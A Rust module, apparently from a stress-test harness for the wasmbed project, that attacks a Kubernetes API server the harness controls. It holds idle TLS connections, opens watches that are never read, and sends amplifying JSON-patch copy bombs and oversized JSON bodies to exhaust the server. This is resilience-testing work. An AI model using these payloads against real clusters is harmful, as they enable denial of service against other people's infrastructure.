//! Attacks on the Kubernetes API.

use std::{sync::Arc, time::Duration};

use anyhow::{Result, bail};
use http_body_util::{BodyExt, Full};
use hyper::{
    body::{Bytes, Incoming},
    client::conn::http2::{Builder, SendRequest},
};
use hyper_util::rt::{TokioExecutor, TokioIo};
use serde_json::{Value, json};
use tokio::{net::TcpStream, sync::Semaphore};
use tokio_rustls::{
    TlsConnector,
    rustls::{ClientConfig, RootCertStore},
};
use wasmbed_pki::ClusterAuthority;

use super::stage::{PATCHED, Stage};

/// Connections without a certificate.
const IDLE_CLIENTS: usize = 128;
/// Connections of the client that watches, and its watches on each.
const WATCHING: (usize, usize) = (8, 150);
/// Bytes of a watch that the client lets come: it reads none of them.
const WINDOW_BYTES: u32 = 1_024;
/// Requests of hostile bodies at once, and the pause after each.
const BODIES_AT_ONCE: usize = 2;
const BODIES_PAUSE: Duration = Duration::from_millis(200);

type Sender = SendRequest<Full<Bytes>>;

/// TLS to the API; with a certificate for a user and a group, or with none.
fn tls(stage: &Stage, user: Option<(&str, &str)>) -> Result<Arc<ClientConfig>> {
    let authority = ClusterAuthority::create_or_open(&stage.target.cluster)?;
    let mut roots = RootCertStore::empty();
    roots.add(authority.certificate().clone())?;
    let builder = ClientConfig::builder().with_root_certificates(roots);
    let mut config = match user {
        None => builder.with_no_client_auth(),
        Some((name, group)) => {
            let identity = authority.issue_client(name, group)?;
            builder.with_client_auth_cert(identity.chain(), identity.key())?
        }
    };
    config.alpn_protocols = vec![b"h2".to_vec()];
    Ok(Arc::new(config))
}

/// An HTTP/2 connection; the future ends when it does.
async fn connect(
    stage: &Stage,
    tls: &Arc<ClientConfig>,
) -> Result<(Sender, impl Future<Output = Result<()>> + use<>)> {
    let stream = TcpStream::connect(stage.target.api).await?;
    let stream = TlsConnector::from(tls.clone()).connect("localhost".try_into()?, stream).await?;
    let mut builder = Builder::new(TokioExecutor::new());
    builder.initial_stream_window_size(WINDOW_BYTES);
    let (sender, connection) = builder.handshake(TokioIo::new(stream)).await?;
    Ok((sender, async move {
        connection.await?;
        bail!("the connection ended")
    }))
}

pub(super) async fn idle_clients(stage: Stage) -> Result<()> {
    let tls = tls(&stage, None)?;
    let all = (0..IDLE_CLIENTS).map(|_| async {
        stage
            .again("idle connections that were refused or ended", async || {
                let (_sender, connection) = connect(&stage, &tls).await?;
                stage.count("idle connections", 1);
                // hyper answers pings.
                connection.await
            })
            .await;
    });
    futures::future::join_all(all).await;
    Ok(())
}

pub(super) async fn watches(stage: Stage) -> Result<()> {
    let tls = tls(&stage, Some(("gateway:gw-2", "wasmbed:gateways")))?;
    let (connections, each) = WATCHING;
    let all = (0..connections).map(|_| async {
        stage
            .again("connections of watches that were refused or ended", async || {
                let (sender, connection) = connect(&stage, &tls).await?;
                let watches = (0..each).map(|_| {
                    let (mut sender, stage) = (sender.clone(), &stage);
                    async move {
                        let mut unread = watch(&mut sender).await;
                        while unread.is_err() && !sender.is_closed() {
                            stage.count("watches that were refused", 1);
                            tokio::time::sleep(Duration::from_secs(1)).await;
                            unread = watch(&mut sender).await;
                        }
                        stage.count("watches that nobody reads", 1);
                        // Held until the connection ends.
                        let _unread = unread;
                        std::future::pending::<()>().await;
                    }
                });
                tokio::select! {
                    ended = connection => ended,
                    _ = futures::future::join_all(watches) => Ok(()),
                }
            })
            .await;
    });
    futures::future::join_all(all).await;
    Ok(())
}

async fn watch(sender: &mut Sender) -> Result<http::Response<Incoming>> {
    let query =
        "watch=true&sendInitialEvents=true&resourceVersionMatch=NotOlderThan&allowWatchBookmarks=true";
    let uri = format!("https://localhost/apis/wasmbed.github.io/v1alpha1/devices?{query}");
    sender.ready().await?;
    let response = sender.send_request(http::Request::get(uri).body(Full::default())?).await?;
    if response.status() != 200 {
        bail!("{}", response.status());
    }
    Ok(response)
}

pub(super) async fn patches(stage: Stage) -> Result<()> {
    let operator = tls(&stage, Some(("attacker", "system:masters")))?;
    let nobody = tls(&stage, Some(("nobody", "nobody")))?;
    let patch = "application/json-patch+json";
    let bodies: [(&Arc<ClientConfig>, &str, Bytes); 5] = [
        (&operator, patch, deep_copies().into()),
        (&operator, patch, doubling_copies().into()),
        (&operator, patch, many_copies().into()),
        (&nobody, "application/json", repeated_names().into()),
        (&nobody, "application/json", long_name().into()),
    ];
    let places = Semaphore::new(BODIES_AT_ONCE);
    let all = bodies.iter().map(|(tls, kind, body)| {
        let (stage, places) = (&stage, &places);
        async move {
            stage
                .again("hostile bodies whose connection ended", async || {
                    let _place = places.acquire().await?;
                    let answered = async {
                        let (mut sender, connection) = connect(stage, tls).await?;
                        let request = request(kind, body.clone())?;
                        let answer = async {
                            let response = sender.send_request(request).await?;
                            let status = response.status();
                            response.into_body().collect().await?;
                            anyhow::Ok(status)
                        };
                        tokio::select! { answer = answer => answer, ended = connection => { ended?; bail!("ended") } }
                    };
                    let status = answered.await?;
                    stage.count(
                        if status.is_success() { "hostile bodies taken" } else { "hostile bodies refused" },
                        1,
                    );
                    tokio::time::sleep(BODIES_PAUSE).await;
                    Ok(())
                })
                .await;
        }
    });
    futures::future::join_all(all).await;
    Ok(())
}

fn request(kind: &str, body: Bytes) -> Result<http::Request<Full<Bytes>>> {
    let devices = "https://localhost/apis/wasmbed.github.io/v1alpha1/namespaces/default/devices";
    let (method, uri) = match kind {
        "application/json" => (http::Method::POST, devices.to_owned()),
        _ => (http::Method::PATCH, format!("{devices}/{PATCHED}")),
    };
    Ok(http::Request::builder().method(method).uri(uri).header("content-type", kind).body(Full::new(body))?)
}

fn operations(operations: Vec<Value>) -> String {
    Value::Array(operations).to_string()
}

/// 14 copies of a node to its own lowest child: each doubles the depth.
fn deep_copies() -> String {
    let mut all = vec![json!({"op": "add", "path": "/spec/l", "value": {}})];
    for step in 0..14 {
        let path = format!("/spec/l{}", "/l".repeat(1 << step));
        all.push(json!({"op": "copy", "from": "/spec/l", "path": path}));
    }
    operations(all)
}

/// 17 copies of a node into itself: each doubles the size of a text of 30 kB.
fn doubling_copies() -> String {
    let mut all = vec![json!({"op": "add", "path": "/spec/b", "value": {"text": "x".repeat(30_000)}})];
    all.extend(
        (0..17).map(|step| json!({"op": "copy", "from": "/spec/b", "path": format!("/spec/b/{step}")})),
    );
    operations(all)
}

/// 2,000 copies of 30 kB.
fn many_copies() -> String {
    let mut all = vec![json!({"op": "add", "path": "/spec/b", "value": {"text": "x".repeat(30_000)}})];
    all.extend(
        (0..2_000)
            .map(|step| json!({"op": "copy", "from": "/spec/b/text", "path": format!("/spec/b/{step}")})),
    );
    operations(all)
}

/// The same name again and again, below one of 225 kB: 450 kB.
fn repeated_names() -> String {
    format!("{{\"{}\":{{{}\"a\":1}}}}", "n".repeat(225_000), "\"a\":1,".repeat(37_500))
}

/// A name of 1.4 MB above 20,000 items.
fn long_name() -> String {
    format!("{{\"{}\":[{}{{}}]}}", "n".repeat(1_400_000), "{},".repeat(20_000))
}
